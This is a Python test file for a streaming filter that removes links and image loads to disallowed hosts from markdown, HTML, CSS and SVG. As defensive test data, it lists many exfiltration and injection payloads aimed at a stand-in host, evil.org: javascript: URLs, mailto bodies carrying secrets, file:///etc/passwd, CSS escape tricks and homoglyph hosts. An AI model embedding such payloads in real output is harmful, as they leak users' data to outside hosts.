"""Links: what leads or loads from where it may not is taken out before any renderer can see it."""

from __future__ import annotations

import random
import time
from collections.abc import Callable, Iterable, Sequence
from typing import Any

import pytest
from laws_links import LAWFUL3
from links_reader import leaks
from recordings import SHARED, body, chunks, shared

import streamfilter as sf
from streamfilter.markup.links_urls import SCHEME_CHARS
from streamfilter.testing import check_stage, cut, promptness
from streamfilter.testing.laws import AnyStage

GUARD = sf.Links(["example.com"], images=["img.example.com"])
EVIL = "https://evil.org/?q=secret"


def pieces(stage: sf.Links, parts: list[str]) -> str:
    return "".join(stage.iter(parts))


def everywhere(text: str, stage: sf.Links = GUARD) -> str:
    """The output, after it was found to be the same however the text is cut, and safe in every beginning."""
    out = stage.apply(text)
    machine = stage.machine()
    left = ""
    for character in text:
        left += "".join(item for item in machine.feed(character) if isinstance(item, str))
        assert not leaks(left, stage.domains), left
    assert left + "".join(map(str, machine.finish())) == out
    rng = random.Random(text)
    for _ in range(3):
        assert pieces(stage, cut(text, *(rng.randint(0, len(text)) for _ in range(4)))) == out
    assert stage.apply(out) == out
    assert not leaks(out, stage.domains)
    return out


TRICKS: list[tuple[str, str]] = [
    # Markdown
    (f"[t]({EVIL})", "[t](#)"),
    (f"![t]({EVIL})", "![t](#)"),
    ("![t](https://example.com/i.png)", "![t](#)"),  # a link may lead there, but nothing may be loaded
    (f'[t](<{EVIL}> "title") x', '[t](<#> "title") x'),
    (f"[a [b] c]({EVIL}(1)(2)) x", "[a [b] c](#) x"),
    (f"[![alt](https://img.example.com/i)]({EVIL})", "[![alt](https://img.example.com/i)](#)"),
    (f"[![alt]({EVIL})](https://example.com/)", "[![alt](#)](https://example.com/)"),
    (f"[t](\n{EVIL}\n)", "[t](\n#\n)"),
    ("> [t](\n> //evil.org/)", "> [t](\n> #)"),
    (f'[a][1]\n\n[1]: {EVIL} "title"\n', '[a][1]\n\n[1]: # "title"\n'),
    ("[1]:\n  <//evil.org/x>\n\n![1]", "[1]:\n  <#>\n\n![1]"),
    ("![1]\n\n[1]: https://example.com/i", "![1]\n\n[1]: #"),
    ("[1]: https://example.com/i\n\n![1]", "[1]: https://example.com/i\n\n![1&#93;"),
    (f"<{EVIL}>", "<[link]>"),
    ("<javascript:alert(1)>", "<[link]>"),
    ("<mailto:a@evil.org?body=secret>", "<[link]>"),
    ("``![a `]` b](https://example.com/i)``", "``![a `]` b](#)``"),
    # plain text
    (f"see {EVIL}. So", "see [link]. So"),
    (f"({EVIL}), and", "([link]), and"),
    ("www.evil.org/x y", "[link] y"),
    ("HTTPS://EVIL.ORG y", "[link] y"),
    ("mailto:x@evil.org?body=secret y", "[link] y"),
    ("ssh://evil.org/x y", "ssh[link] y"),
    ("https:\\/\\/evil.org\\/x", "[link]"),
    ("https&colon;//evil.org", "[link]"),
    ("https&#58;&#47;&#x2F;evil.org", "[link]"),
    ("ww&#119;&period;evil.org x", "[link] x"),
    # the host
    ("[t](https://example.com@evil.org/)", "[t](#)"),
    ("[t](https://example.com:443@evil.org/)", "[t](#)"),
    ("https://example.com@evil.org/", "[link]"),
    ("[t](https://example.com.evil.org/)", "[t](#)"),
    ("[t](https://sub.example.com/)", "[t](#)"),
    ("[t](https://example.com:8080/)", "[t](#)"),
    ("[t](https://example.com\\@evil.org/)", "[t](#)"),
    ("[t](https://example.com&commat;evil.org/)", "[t](#)"),
    ("[t](https://example.com%2eevil.org/)", "[t](#)"),
    ("[t](https://%65vil.org/)", "[t](#)"),
    ("[t](https://еxample.com/)", "[t](#)"),  # a Cyrillic letter
    ("[t](https://xn--xample-2of.com/)", "[t](#)"),
    ("[t](https://exam\u200bple.com/)", "[t](#)"),
    ("https://example.co\u200bm.evil.org/", "[link]"),
    ("[t](https://example。com.evil.org/)", "[t](#)"),
    ("[t](https://evil．org/)", "[t](#)"),
    ("[t](https://0x7f.1/)", "[t](#)"),
    ("[t](https://2130706433/)", "[t](#)"),
    ("[t](https://[::1]/)", "[t](#)"),
    ("[t](//example.com(.evil.org/)x)", "[t](#)"),
    ("https://example.com).evil.org/x y", "[link]).evil.org/x y"),
    ('https://example.com".evil.org/x y', '[link]".evil.org/x y'),
    # the scheme
    ("[t](//evil.org/x)", "[t](#)"),
    ("[t](///evil.org/x)", "[t](#)"),
    ("[t](\\/\\/evil.org/x)", "[t](#)"),
    ("[t](/\\evil.org/x)", "[t](#)"),
    ("[t](/&sol;evil.org/x)", "[t](#)"),
    ("[t](https:evil.org)", "[t](#)"),
    ("[t](https:/evil.org)", "[t](#)"),
    ("[t](https:\\\\evil.org)", "[t](#)"),
    ("[t](ftp://example.com/)", "[t](#)"),
    ("[t](javascript:alert(1))", "[t](#)"),
    ("[t](JaVaScRiPt&colon;alert(1))", "[t](#)"),
    ("[t](java&Tab;script:x)", "[t](#)"),
    ("[t](&#106;avascript:x)", "[t](#)"),
    ("[t](java\u200bscript:x)", "[t](#)"),
    ("[t](<java\tscript:x>)", "[t](<#>)"),
    # Python-Markdown takes what follows for a target, and browsers take the break or the control character away
    ("[t](\x01javascript:x)", "[t](\x01#)"),
    ("![t](\x01 //evil.org/x)", "![t](\x01 #)"),
    ("![t](/\n/evil.org/x)", "![t](#\n/evil.org/x)"),
    ("![t](/\t\\evil.org/x)", "![t](#\t\\evil.org/x)"),
    ("![t](</\n/evil.org/x>)", "![t](<#\n/evil.org/x>)"),
    ("[t](java\nscript:x)", "[t](#\nscript:x)"),
    ("[t](<java\nscript:x>)", "[t](<#\nscript:x>)"),
    ("> ![t](/\n> /evil.org/x)", "> ![t](#\n> /evil.org/x)"),
    (">> ![t](</\n> > /evil.org/x>)", ">> ![t](<#\n> > /evil.org/x>)"),
    ("[t](https://example.com\n.evil.org/x)", "[t](#\n.evil.org/x)"),
    ("<https://example.com\n.evil.org/x>", "<[link]\n.evil.org/x>"),
    ('> <a href="/\n> /evil.org/x">', '> <a href="#">'),
    ('> <img src="https://img.example.com\n> .evil.org/x">', '> <img src="#">'),
    ('> <meta http-equiv=refresh content="0;url=/\n> /evil.org/x">', '> <meta http-equiv=refresh content="#">'),
    ('> <svg><set attributeName=href to="/\n> /evil.org/x">', '> <svg><set attributeName=href to="#">'),
    ("[r]: \x01//evil.org/x\n\n[r]", "[r]: \x01#\n\n[r]"),
    # blanks that are not ASCII end no target
    ("<javascript:alert(1)\u2028>", "<[link]>"),
    ("<slack:\u00a0x>", "<[link]>"),
    ("<https://example.com\u2028.evil.org>", "<[link]>"),
    ("[t](slack:\u00a0//channel?id=secret)", "[t](#\u00a0//channel?id=secret)"),
    ("[r]: slack:\u2028//channel\n\n[r]", "[r]: #\u2028//channel\n\n[r]"),
    # the name of a user, to linkify-it
    ("https://<x>@evil.org/x y", "[link]<x>@evil.org/x y"),
    ("https://example.com>@evil.org/x y", "[link]>@evil.org/x y"),
    ("\\<https://example.com>@evil.org/x y", "\\<[link]>@evil.org/x y"),
    ("https://^|@evil.org/x y", "[link]|@evil.org/x y"),
    ("https://example.com<" + "x" * 300 + "@evil.org/x y", "[link]<" + "x" * 300 + "@evil.org/x y"),
    ("[t](vbscript:x)", "[t](#)"),
    ("![t](data:image/png;base64,xx)", "![t](#)"),
    ("[t](file:///etc/passwd)", "[t](#)"),
    ("[t](blob:https://example.com/x)", "[t](#)"),
    ("[t](slack://channel?id=secret)", "[t](#)"),
    # HTML
    (f'<a href="{EVIL}">x</a>', '<a href="#">x</a>'),
    (f"<IMG/SRC='{EVIL}'>", "<IMG/SRC='#'>"),
    ("<img\nsrc = //evil.org/x>", "<img\nsrc = #>"),
    ('<img src="https://example.com/i">', '<img src="#">'),
    ('<img title=">" src="//evil.org">', '<img title=">" src="#">'),
    ('<img =" x="> " src=//evil.org>', '<img =" x="> " src=#>'),
    ('<b title="<a href=//evil.org/x>y">', '<b title="<a href=#>y">'),
    ('<img srcset="https://img.example.com/a 1x, //evil.org/b 2x">', '<img srcset="#">'),
    ('<a href="java\nscript:x">', '<a href="#">'),
    ('<a href="&#x6a;avascript:x">', '<a href="#">'),
    ('<a href=" \x01//evil.org">', '<a href="#">'),
    ('<a href="\\\\evil.org">', '<a href="#">'),
    ("<base href=//evil.org/>", "<base href=#>"),
    ('<link rel=stylesheet href="https://example.com/x">', '<link rel=stylesheet href="#">'),
    ('<meta http-equiv=refresh content="0; url=//evil.org/x">', '<meta http-equiv=refresh content="#">'),
    ('<meta http-equiv=refresh content=".0 , &#117;rl = &quot;//evil.org/x">', '<meta http-equiv=refresh content="#">'),
    ('<meta name=description content="A word: a, b">', '<meta name=description content="A word: a, b">'),
    ('<form action="//evil.org"><button formaction="//evil.org">', '<form action="#"><button formaction="#">'),
    ("<iframe srcdoc='&lt;img src=//evil.org&gt;'>", "<iframe srcdoc='#'>"),
    ('<p style="background:u\\72l(//evil.org/x)">', '<p style="#">'),
    ("<style>p { background: url( '//evil.org/x') }</style>", "<style>p { background: url( '#') }</style>"),
    ("<style>@import '//evil.org/x';</style>", "<style>@import '#';</style>"),
    ('<svg><use xlink:href="//evil.org/x">', '<svg><use xlink:href="#">'),
    ('<a ping="//evil.org">', '<a ping="#">'),
    ('<iframe title="\n\n[x](y/src=//evil.org/)', '<iframe title="\n\n[x](y/src=#'),
    # the recipients of a mail
    ("[t](mailto:?to=b@evil.org&body=secret)", "[t](#)"),
    ("<mailto:?to=b@evil.org>", "<[link]>"),
    ('<a href="mailto:?to=b@evil.org">', '<a href="#">'),
    ("mailto:?to=b@evil.org&body=secret y", "[link] y"),
    ("[t](mailto:?body=secret)", "[t](#)"),
    ("[t](mailto:a@example.com?cc=b@evil.org)", "[t](#)"),
    ("[t](mailto:a@example.com?subject=x&B%63c=b%40evil.org)", "[t](#)"),
    ("[t](mailto:a@example.com?cc=c@example.com,b@evil.org)", "[t](#)"),
    ("[t](mailto:a@example.com?cc=c@example.com;b@evil.org)", "[t](#)"),
    ("[t](mailto:a@example.com?subject=x%0D%0Abcc:b@evil.org)", "[t](#)"),
    ("[t](mailto:a@example.com?subject=x&amp;c&#99;=b@evil.org)", "[t](#)"),
    ("[t](mailto:a@example.com?c\\c=b@evil.org)", "[t](#)"),
    ("mailto:a@example.com?body='&cc=b@evil.org y", "[link]'&cc=b@evil.org y"),
    ("mailto:a@example.com?cc=a@example.com),b@evil.org y", "[link]),b@evil.org y"),
    # styles
    ("<style>@import/**/'//evil.org/x'</style>", "<style>@import#</style>"),
    ("<style>@import /*'*/ '//evil.org/x';</style>", "<style>@import #;</style>"),
    ('<style>a{background:image-set("//evil.org/x" 1x)}</style>', "<style>a{background:image-set(#)}</style>"),
    (
        "<style>a{background:image-set(url(x) 1x, '//evil.org/x' 2x)}</style>",
        "<style>a{background:image-set(#) 1x, '#' 2x)}</style>",
    ),
    (
        '<style>a{background:-webkit-image-set("a)" 1x, "//evil.org/x" 2x)}</style>',
        '<style>a{background:-webkit-image-set(#)" 1x, "#" 2x)}</style>',
    ),
    ('<svg><rect mask="u&#114;l(//evil.org/x)"/></svg>', '<svg><rect mask="#"/></svg>'),
    ('<svg><rect fill="u\\72l(//evil.org/x)"/></svg>', '<svg><rect fill="#"/></svg>'),
    ("<style>a{background:u\\72l(//evil.org/x)}</style>", "<style>a{background:u\\72l(#)}</style>"),
    ("<style>a{background:\\000075\n\\R\\6C (//evil.org/x)}</style>", "<style>a{background:\\000075\n\\R\\6C (#)}</style>"),
    ('<style>@\\69mport "//evil.org/x";</style>', '<style>@\\69mport "#";</style>'),
    ('<style>@imp\\o\\72t "//evil.org/x";</style>', '<style>@imp\\o\\72t "#";</style>'),
    ('<style>a{background:image\\2dset("//evil.org/x" 1x)}</style>', "<style>a{background:image\\2dset(#)}</style>"),
    ('<style>a{background:url("/\t/evil.org/x")}</style>', '<style>a{background:url("#\t/evil.org/x")}</style>'),
    ("<style>a{background:url(/\\2f evil.org/x)}</style>", "<style>a{background:url(# evil.org/x)}</style>"),
    ('<style>@import "data\\3atext/css,a{}";</style>', '<style>@import "#";</style>'),
    ("<style>a{background:url('javascrip\\74:x')}</style>", "<style>a{background:url('#')}</style>"),
    ('<style>a{background:image("//evil.org/x")}</style>', '<style>a{background:image("#")}</style>'),
    ("<style>a{background:src( '//evil.org/x')}</style>", "<style>a{background:src( '#')}</style>"),
    ('<style>a{--x:"//evil.org/x";--y:image-set(var(--x) 1x)}</style>', '<style>a{--x:"#";--y:image-set(#) 1x)}</style>'),
    ('<style>a{--x:"\\2f\\/evil.org/x";--y:src(var(--x))}</style>', '<style>a{--x:"#";--y:src(var(--x))}</style>'),
    # values in values
    ("<img srcset='a <a href=//x.org/'>, //evil.org/x 2x'>", "<img srcset='a <a href=#'#>, //evil.org/x 2x'>"),
    ("<img srcset='a [b](//x.org/')>, //evil.org/x 2x'>", "<img srcset='a [b](#'#)>, //evil.org/x 2x'>"),
    (
        """<img srcset="a <a style='//x.org/">, //evil.org/x 2x'>, //evil.org/x 3x">""",
        """<img srcset="a <a style='#"#'>, //evil.org/x 3x">""",
    ),
    # foreign content
    ('<svg><set attributeName=mask to="u\\72l(//evil.org)"/></svg>', '<svg><set attributeName=mask to="#"/></svg>'),
    ("<svg><animate values='none;url(//evil.org/x)'/></svg>", "<svg><animate values='#'/></svg>"),
    ('<svg><animate values="a;//evil.org/x"/></svg>', '<svg><animate values="#"/></svg>'),
    ('<svg><animate from="/\t/evil.org/x" by=java&Tab;script:x></svg>', '<svg><animate from="#" by=#></svg>'),
    ("<svg><style>a{fill:u&#114;l(//evil.org/x)}</style></svg>", "<svg><style>a{fill:u|#114;l(//evil.org/x)}</style></svg>"),
    (
        "<svg><style>a{fill:u&#00000000000000000114;l(//evil.org/x)}</style></svg>",
        "<svg><style>a{fill:u|#00000000000000000114;l(//evil.org/x)}</style></svg>",
    ),
    ("<SVG><STYLE x='</style'>a{fill:u<!-->-->rl(//evil.org/x)}", "<SVG><STYLE x='|/style'>a{fill:u|!-->-->rl(//evil.org/x)}"),
    ("<svg><style>a{fill:u<g>x</g>rl(//evil.org/x)}", "<svg><style>a{fill:u|g>x|/g>rl(//evil.org/x)}"),
    ("<svg><style>a{fill:ur<![CDATA[l(//evil.org/x)]]>}", "<svg><style>a{fill:ur|![CDATA[l(//evil.org/x)]]>}"),
    ("<math><style>a{fill:url(/<g/>/evil.org/x)}", "<math><style>a{fill:url(#)}"),
    ("<svg><style>a{fill:u&<x72;l(//evil.org/x)}", "<svg><style>a{fill:u&|x72;l(//evil.org/x)}"),
    ("so <style>a{fill:u&#114;l(//evil.org/x)}</style> AT&T", "so <style>a{fill:u|#114;l(//evil.org/x)}</style> AT&T"),
    ("so <style>a{fill:url&lpar;//evil.org/x)}", "so <style>a{fill:url&lpar;#)}"),
    ("so <style>a{fill:u\\\\72l(//evil.org/x)}", "so <style>a{fill:u\\\\72l(#)}"),
    ("so <style>a{fill:url\\(//evil.org/x)}", "so <style>a{fill:url\\(#)}"),
    ('so <style>a{--x:"\\\\2f\\\\2f evil.org/x"}', 'so <style>a{--x:"# evil.org/x"}'),
    # the scheme and the port of plain text
    ("ftp://example.com/x wss://example.com/ y", "[link] [link] y"),
    ("http://example.com:443/x https://example.com:80/x y", "[link] [link] y"),
    # what is taken out joins nothing
    (f"[t]{EVIL} (//evil.org)", "[t][link] (#)"),
    # Blanks before a target, and in it
    ("![a] (//evil.org/?q=s)", "![a] (#)"),
    ("[a]  (javascript:alert(1))", "[a]  (#)"),
    ("> [a] \n> (//evil.org/x)", "> [a] \n> (#)"),
    (f"[a]{' ' * 3000}(//evil.org/x)", f"[a]{' ' * 3000}(#)"),
    ("![a] (https://example.com/i)", "![a] (#)"),
    ("[x](https://example.com @evil.org/?q=s)", "[x](# @evil.org/?q=s)"),
    ("![x](https://img.example.com\n@evil.org/?q=s)", "![x](#\n@evil.org/?q=s)"),
    ("[x](https://example.com (a) @evil.org/)", "[x](# (a) @evil.org/)"),
    ("[x](https://example.com 'a' @evil.org/)", "[x](# 'a' @evil.org/)"),
    ("[x](mailto:a@example.com ,b@evil.org?subject=s)", "[x](# ,b@evil.org?subject=s)"),
    ("[x](mailto:a@example.com ?cc=b@evil.org)", "[x](# ?cc=b@evil.org)"),
    ("<https://example.com @evil.org/?q=s>", "<[link] @evil.org/?q=s>"),
    # Where one reader ends a URL and another does not
    *((f"https://example.com{c}@evil.org/?q=s", f"[link]{c}@evil.org/?q=s") for c in "\xa0\u3000\u2028\x85\x1f\x1c\x0b\x0c"),
    ("https://example.com[a@evil.org/?q=s", "[link][a@evil.org/?q=s"),
    ("https://example.com]\x1f@evil.org/?q=s", "[link]]\x1f@evil.org/?q=s"),
    ("https://]@evil.org", "[link]]@evil.org"),
    ("https://example.com\\x@evil.org/?q=s", "[link]"),
    ("[x](https://example.com \\@evil.org/)", "[x](# \\@evil.org/)"),
    (f"https://example.com[{EVIL}>@evil.org/?q=s b", "https://example.com[[link] b"),
    (f"https://example.com\xa0www.evil.org/)@evil.org\n{EVIL}, b", "https://example.com\xa0[link]\n[link], b"),
    ("<javascript:alert(1)//<>", "<[link]<>"),
    ("<data:text/html,\t<b>", "<[link]\t<b>"),
    # What stands in for a URL becomes no image
    ("!https://evil.org \n\n[link]: https://example.com/s?q=s", "!link \n\n[link]: https://example.com/s?q=s"),
    ("!https://evil.org[x]\n\n[x]: https://example.com/s?q=s", "!link[x]\n\n[x]: https://example.com/s?q=s"),
    ("[link]: https://example.com/s\n\n!www.evil.org b", "[link]: https://example.com/s\n\n!link b"),
    (f"[t]({EVIL})(//evil.org)", "[t](#)(//evil.org)"),
    (f"htt[p]({EVIL})s://evil.org", "htt[p](#)s[link]"),
    (f"<a href{EVIL}=//evil.org>", "<a href[link]>"),
]


@pytest.mark.parametrize(("text", "want"), TRICKS, ids=[text for text, _ in TRICKS])
def test_a_trick_leaves_no_url_that_leads_out(text: str, want: str) -> None:
    """The output is what is expected, for all cuts; no renderer finds a URL in any beginning of it; and it passes a second time."""
    assert everywhere(text) == want


HARMLESS = [
    "Plain prose, with (parentheses), 3 < 4 and a > b; it's 10:30 — R&D; ratio 1:2, a/b and/or c//d.",
    "A note[1] and [^2], [x] done, [ ] open.\n\n[^2]: See Smith: 12.\n",
    "| a | b |\n|:--|--:|\n| [x](y.md) | `c` |\n",
    "[t](https://example.com/a?b=c#d 'title'), [u](/local/path), [v](#top), [w](?q=1), [x](notes.txt), [m](mailto:a@example.com?subject=x)",
    "![i](https://img.example.com/i.png) ![j](local.png)",
    "[t](https://example.com/\n'title') [u](/a\n\"b\") [v](notes\n) [w](/\n\n//evil) <https://example.com>, a <https://example.com/>\nb [x]: y\nz: a",
    "See https://example.com/x, (https://example.com), **https://example.com** and “https://example.com”.",
    "请看[链接](https://example.com)。好",
    "Write to me@elsewhere.org or <me@elsewhere.org>.",
    "for (int i = 0; i<n; i++) { v[i](x); std::vector<std::string> w; x = &y; } // done\n\nMap<String, List<String>> m;\n",
    "let v = vec![1, 2]; assert![a](b); fn f<T: Display>(x: &T) -> x[i]: int",
    'callbacks[0](event); d["a"]: 5; x = a[1:2]; {"u":"https://example.com","v":[1]}',
    '<div class="a" id=b><b>x</b><br/></div> <img src=\'local.png\' alt="a > b"> <a href="https://example.com/">y</a>',
    '<p style="background-image: none; color: red">a</p> XMPP: a protocol; mailto: too',
    "<style>p{background:image-set('a.png' 1x, url(b.png) 2x) '-set-'}</style> a data-set (of x) - so - <svg fill='url(#a)' mask=none/>",
    "$a_1 < b^{2}$, \\(x\\), \\[ y \\], *a* _b_ ~~c~~ `d` ```e```",
    "C:\\dir\\file, key: value, 12:30, a::b, https and http, www and url, @important",
    """The boys' house, '' and "", " a", line.startswith("//"), x = '// no', find("//div[@id='a.b']"), "//*", r'\\\\server', "/<id>/".""",
    """\\url{x} \\u0041 a\\7 b @\\x -\\s p { content: "\\201C"; } <style>a { &:hover { width: 3px } }</style> <svg>a</svg> <b>R&amp;D</b>""",
    "<style>a { x: '&amp;' }</style><svg><style>a > b, &:hover { x: y } </style><animate values='0;1 2;#fff' to='rgb(1, 2, 3)' by=3 /></svg> R&amp;D <b>",
    "\x00 \ud800 \u200b \U0001f600 é",
    "",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_leads_nowhere_else_is_unchanged(text: str) -> None:
    """Prose, code, tables, footnotes, mathematics, links to allowed hosts and to the page's own."""
    for parts in ([text], list(text), [text[n : n + 4] for n in range(0, len(text), 4)]):
        assert pieces(GUARD, parts) == text


@pytest.mark.parametrize(
    ("stage", "text", "want"),
    [
        (sf.Links(), "[a](x) [b](https://example.com)", "[a](x) [b](#)"),
        (sf.Links(relative=False), "[a](x) [b](#c) [d](/e) ![f](g)", "[a](#) [b](#c) [d](#) ![f](#)"),
        (
            sf.Links(["*.example.com"]),
            "https://a.b.example.com/ https://example.com/ https://aexample.com/",
            "https://a.b.example.com/ [link] [link]",
        ),
        (
            sf.Links(["example.com:8080"]),
            "[a](https://example.com:8080/x) [b](https://example.com)",
            "[a](https://example.com:8080/x) [b](#)",
        ),
        (
            sf.Links(["bücher.example"]),
            "[a](https://bücher.example/) [b](https://xn--bcher-kva.example/)",
            "[a](https://bücher.example/) [b](https://xn--bcher-kva.example/)",
        ),
        (
            sf.Links(["example.com"], schemes=["https", "tel"]),
            "[a](http://example.com) [b](tel:+1) ![c](tel:+1)",
            "[a](#) [b](tel:+1) ![c](#)",
        ),
        (sf.Links(to=""), f"a {EVIL} b", "a  b"),
        (sf.Links(to="no"), f"a {EVIL} b", "a no b"),
        (
            sf.Links(["example.com"], domains=True),
            "evil.org/?q=1, example.com, me@evil.org, //evil.org/x",
            "[link], example.com, me@evil.org, //[link]",
        ),
        (  # to linkify-it, users of a host
            sf.Links(["example.com"], domains=True),
            "//<x@evil.org/q //;,x@evil.org //a<x@evil.org (//) a@evil.org,b@evil.org",
            "//<x@[link] //;,x@[link] //a<x@[link] (#) a@evil.org,b@evil.org",
        ),
        (
            sf.Links(["ok.com"], schemes=["https"]),
            "http://ok.com/x ftp://ok.com/x wss://ok.com/ https://ok.com/ www.ok.com",
            "[link] [link] [link] https://ok.com/ [link]",
        ),
        (
            sf.Links(["ok.com:443"]),
            "[a](https://ok.com:443/) [b](https://ok.com/) [c](http://ok.com/) https://ok.com:0443/ https://ok.com/ http://ok.com/",
            "[a](https://ok.com:443/) [b](https://ok.com/) [c](#) https://ok.com:0443/ https://ok.com/ [link]",
        ),
        (
            sf.Links(["ok.com"]),
            "http://ok.com:80/ https://ok.com:443/x, http://ok.com:8080",
            "http://ok.com:80/ https://ok.com:443/x, [link]",
        ),
        (
            sf.Links(["ok.com"]),
            "[a](mailto:?to=b@ok.com) [b](mailto:a@ok.com?CC=b@ok.com,c@no.org)",
            "[a](mailto:?to=b@ok.com) [b](#)",
        ),
        (
            sf.Links(["ok.com"]),
            "(mailto:a@ok.com?cc=b%40ok.com&subject=To). mailto:a@ok.com",
            "(mailto:a@ok.com?cc=b%40ok.com&subject=To). mailto:a@ok.com",
        ),
        (
            sf.Links(["ok.com"]),
            "[a](mailto:a@ok.com?cc=b@ok.com),[b](mailto:a@ok.com)",
            "[a](mailto:a@ok.com?cc=b@ok.com),[b](mailto:a@ok.com)",
        ),
        (sf.Links(["10.0.0.1"]), "[a](http://10.0.0.1/) [b](http://167772161/)", "[a](http://10.0.0.1/) [b](#)"),
    ],
)
def test_what_is_allowed_is_said_by_the_arguments(stage: sf.Links, text: str, want: str) -> None:
    """Hosts, those below a host, ports, names that are not ASCII, schemes, relative URLs, and what stands in."""
    assert stage.apply(text) == pieces(stage, list(text)) == want


FRAGMENTS = [
    *(
        "https://evil.org/?q=s",
        "https://example.com/a",
        "https://img.example.com/i",
        "//evil.org/x",
        "http:",
        "https:",
        "/",
        "//",
        "\\",
        "\\/",
    ),
    *("evil.org", "@evil.org", ".evil.org/", "example.com", "www.", "javascript:", "java", "script:x", "mailto:a@evil.org?b=c"),
    *(
        "<",
        ">",
        "<a ",
        "<img ",
        "<a href=",
        "<img src=",
        "<iframe src=",
        " src=",
        " href=",
        " href = ",
        " title=",
        " style=",
        " srcset=",
    ),
    *(
        '"',
        "'",
        "`",
        "``",
        "[",
        "]",
        "![",
        "](",
        "]:",
        "[a](",
        "![a](",
        "[1]: ",
        "![1](",
        "[1]",
        "![1]",
        "<!--",
        "-->",
        "(",
        ")",
        "|",
    ),
    *(
        " ",
        "\n",
        "\n\n",
        "\t",
        "> ",
        "- ",
        "    ",
        "&",
        "&#x2F;",
        "&colon;",
        "&sol;",
        "&Tab;",
        "%2f",
        "\u200b",
        "／",
        "。",
        "#",
        "?",
        "x",
        "=",
    ),
    *(
        '<div title="',
        "<div title='",
        "</a>",
        "<base href=",
        '<meta http-equiv=refresh content="0;url=',
        "<svg><use xlink:href=",
        "url(",
    ),
    *(
        "<svg>",
        "<style>",
        "</style>",
        "<set to=",
        "<animate values='a;",
        "u\\72l(",
        "u&#114;l(",
        "image-set(",
        "var(--x)",
        "@import ",
        "--x:",
        "\\2f",
        "<g>",
        "<![CDATA[",
        "<!--",
    ),
    *("*", "_", "$", "\\]", "\\[", ":", ".", "```\n", "\r\n", "\x00", "\x0c"),
]


@pytest.mark.parametrize("domains", [False, True])
@pytest.mark.parametrize("seed", range(3))
def test_no_composition_of_hostile_pieces_leaves_a_url(seed: int, domains: bool) -> None:
    """Random texts of pieces of links: the same for all cuts, safe in every renderer at every moment, and stable."""
    stage = sf.Links(["example.com"], images=["img.example.com"], domains=domains)
    rng = random.Random(seed)
    for _ in range(50):
        text = (
            "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(2, 12)))
            + rng.choice(["", EVIL, "//evil.org/x"])
            + rng.choice("\n >)\"'")
        )
        out = stage.apply(text)
        machine, left = stage.machine(), [""]
        for part in cut(text, *(rng.randint(0, len(text)) for _ in range(6))):
            left.append(left[-1] + "".join(map(str, machine.feed(part))))
        left.append(left[-1] + "".join(map(str, machine.finish())))
        assert left[-1] == out == pieces(stage, list(text)), text
        assert stage.apply(out) == out, text
        for shown in (out, rng.choice(left)):
            assert not leaks(shown, domains), (text, shown)


@pytest.mark.parametrize(("stage", "means", "alphabet"), LAWFUL3, ids=str)
def test_it_obeys_the_laws(stage: AnyStage, means: Callable[[str], str], alphabet: Sequence[str]) -> None:
    """All laws of text stages, against a meaning written down without it."""
    check_stage(stage, means, alphabet=alphabet, examples=60, max_chars=14)


def test_nothing_leaves_that_a_continuation_could_change() -> None:
    """By brute force; and what is held is no more than the mark and a target that is not decided."""
    _, targets, _ = LAWFUL3[0]
    promptness(sf.Links(["a"]), "[a](//a) a", targets, alphabet="](/a ", depth=3, exact=False)
    held = [
        (text, released(text))
        for text in ("a [b", "a [b]", "[b](x", "[b](https", "[b](https://example.com/", "a <", "a <b", "<b c", "a h", "a ht", "see")
    ]
    assert [len(text) - len(left) for text, left in held] == [0, 0, 2, 6, 0, 1, 2, 0, 1, 2, 0]


def released(text: str, stage: sf.Links = GUARD) -> str:
    machine = stage.machine()
    return "".join(str(item) for character in text for item in machine.feed(character))


@pytest.mark.parametrize(
    "flood",
    [
        "<",
        "<a b=",
        "<a href='",
        "[",
        "](",
        "![](",
        "&#",
        "\\",
        ":",
        "https://",
        "www.a ",
        "]: ",
        "<ab:",
        "url(",
        "u\\",
        "\\75",
        '"/',
        '"\\9 ',
        "'//a\\9 \\2f ",
        "<svg><style>&#",
        "<svg><style></st",
        "-set(",
        "-set(a;",
        "-set('(a)' ",
        "mailto:a@example.com?cc",
        "mailto:a@example.com?a &",
        "<a mask=u",
        "<a title='\n' ",
        "h",
        "!",
    ],
)
def test_a_flood_of_marks_takes_linear_time(flood: str) -> None:
    """Four times the text takes about four times as long, in one piece and in small ones."""

    def took(chars: int, size: int) -> float:
        text = flood * (chars // len(flood))
        parts = [text[at : at + size] for at in range(0, len(text), size)]
        best = float("inf")
        for _ in range(2):
            begun = time.process_time()
            pieces(GUARD, parts)
            best = min(best, time.process_time() - begun)
        return best

    for size in (4, 100_000):
        assert took(16_000, size) < 12 * took(4_000, size) + 0.02


PAGE = "https://example.com/i"  # a link may lead there, but nothing may be loaded


@pytest.mark.parametrize(
    ("text", "is_kept"),
    [
        (f"![a [b]({PAGE})", True),  # a link in what may be an image's text
        (f"![a ` [b]({PAGE})", False),  # unless a reader may not see one of the brackets: then any may be the image's
        (f"![a `\n\n[b]({PAGE})", True),  # up to the end of the paragraph
        (f"![a `\n \t\n[b]({PAGE})", True),
        (f"![a `\nx [b]({PAGE})", False),
        (f"![a `\n x [b]({PAGE})", False),
        (f"![a ` \n[b]({PAGE})", False),
        (f"![a ` \n\n[b]({PAGE}) ![c ` [d](https://img.example.com/)", True),
        (f"[a\n](https://example.com/) y ![\n` [c]({PAGE})", False),  # that a line had begun was in another paragraph
        (f"{'[' * 100}b]({PAGE})", True),
        (f"{'[' * 101}b]({PAGE})", False),  # too many to tell them apart
        (f"{'[' * 101}b\n\n[c]({PAGE})", True),
        (f"<[b]({PAGE})", True),
        (f"<![b]({PAGE})", False),
        (f"<= ![b]({PAGE})", False),
        (f"<<img src={PAGE}>", False),
        (f"<<a href={PAGE}>", True),
        ("<a:evil>", True),  # a tag, whatever it means
    ],
)
def test_whether_a_target_may_be_an_images_is_said_by_its_paragraph(text: str, is_kept: bool) -> None:
    """Where that is open, it counts as one."""
    assert everywhere(text) == (text if is_kept else text.replace(PAGE, "#"))


@pytest.mark.parametrize("chars", [1, 2, 3, SCHEME_CHARS - 2, SCHEME_CHARS - 1, SCHEME_CHARS, SCHEME_CHARS + 1])
def test_a_scheme_in_angle_brackets_may_have_any_length(chars: int) -> None:
    """One letter is no scheme to CommonMark, and so many are none to anybody; what stands behind them is read as any text is."""
    scheme = "abcdefghij"[:chars] if chars < 10 else "x" * chars
    out = everywhere(f"<{scheme}://evil.org/?q> and <{scheme}:evil> ok")
    assert "evil.org" not in out
    assert out.endswith("> ok")


